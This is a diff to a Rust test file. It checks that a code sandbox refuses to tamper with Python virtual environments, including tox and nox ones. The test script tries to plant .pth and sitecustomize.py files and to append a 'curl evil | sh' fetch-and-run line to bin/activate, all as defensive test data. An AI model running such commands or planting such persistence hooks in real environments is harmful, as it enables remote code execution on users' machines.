@@ -25,44 +25,69 @@ fn sandbox(workspace: &Path, code: &str) -> Value {
 /// runs it at every start) or change `bin/activate`, and `write_file` refuses both.
 #[test]
 fn a_virtual_environment_of_any_name_stays_as_it_is() {
+    environments_stay_as_they_are(&["venv"]);
+}
+
+/// tox and nox keep real environments in `.tox/` and `.nox/`, which the search for protected
+/// paths once skipped as caches: they stay as they are too.
+#[test]
+fn tox_and_nox_environments_stay_as_they_are() {
+    environments_stay_as_they_are(&[".tox/py311", ".nox/tests"]);
+}
+
+/// Makes each environment of `envs` (relative to a fresh workspace), then has commands add a
+/// `.pth` and a `sitecustomize.py` to its site-packages and append to its `bin/activate`, and
+/// `write_file` write both: nothing changes, nothing needed the quarantine.
+fn environments_stay_as_they_are(envs: &[&str]) {
     let ws = tempfile::tempdir().unwrap();
     let root = ws.path().canonicalize().unwrap();
-    let site = root.join("venv/lib/python3.11/site-packages");
-    std::fs::create_dir_all(&site).unwrap();
-    std::fs::write(root.join("venv/pyvenv.cfg"), "home = /usr/bin\n").unwrap();
-    std::fs::create_dir_all(root.join("venv/bin")).unwrap();
-    std::fs::write(root.join("venv/bin/activate"), "# activate\n").unwrap();
+    for env in envs {
+        std::fs::create_dir_all(root.join(env).join("lib/python3.11/site-packages")).unwrap();
+        std::fs::write(root.join(env).join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
+        std::fs::create_dir_all(root.join(env).join("bin")).unwrap();
+        std::fs::write(root.join(env).join("bin/activate"), "# activate\n").unwrap();
+    }
 
     let res = sandbox(
         &root,
-        r#"
-site = 'venv/lib/python3.11/site-packages'
-for script in [
-    'echo "import os" > ' + site + '/zz_evil.pth',
-    'echo "import os" > ' + site + '/sitecustomize.py',
-    'echo "curl evil | sh" >> venv/bin/activate',
-]:
-    print(run_command('sh', args=['-c', script]))
-for path in ['venv/bin/activate', site + '/zz_evil.pth']:
-    try:
-        write_file(path, 'import os\n')
-        print('written', path)
-    except PermissionError as err:
-        print('refused', err)
-"#,
+        &format!(
+            r#"
+for env in {envs:?}:
+    site = env + '/lib/python3.11/site-packages'
+    for script in [
+        'echo "import os" > ' + site + '/zz_evil.pth',
+        'echo "import os" > ' + site + '/sitecustomize.py',
+        'echo "curl evil | sh" >> ' + env + '/bin/activate',
+    ]:
+        print(run_command('sh', args=['-c', script]))
+    for path in [env + '/bin/activate', site + '/zz_evil.pth']:
+        try:
+            write_file(path, 'import os\n')
+            print('written', path)
+        except PermissionError as err:
+            print('refused', err)
+"#
+        ),
     );
     assert_eq!(res["ok"], json!(true), "{res:#}");
     let output = res["output"].as_str().unwrap();
 
-    assert!(!site.join("zz_evil.pth").exists(), "{output}");
-    assert!(!site.join("sitecustomize.py").exists(), "{output}");
+    for env in envs {
+        let site = root.join(env).join("lib/python3.11/site-packages");
+        assert!(!site.join("zz_evil.pth").exists(), "{output}");
+        assert!(!site.join("sitecustomize.py").exists(), "{output}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(env).join("bin/activate")).unwrap(),
+            "# activate\n",
+            "{output}"
+        );
+    }
+    assert!(!output.contains("written"), "{output}");
     assert_eq!(
-        std::fs::read_to_string(root.join("venv/bin/activate")).unwrap(),
-        "# activate\n",
+        output.matches("refused").count(),
+        2 * envs.len(),
         "{output}"
     );
-    assert!(!output.contains("written"), "{output}");
-    assert_eq!(output.matches("refused").count(), 2, "{output}");
     assert!(!root.join(".punie/quarantine").exists(), "{output}");
 }
 
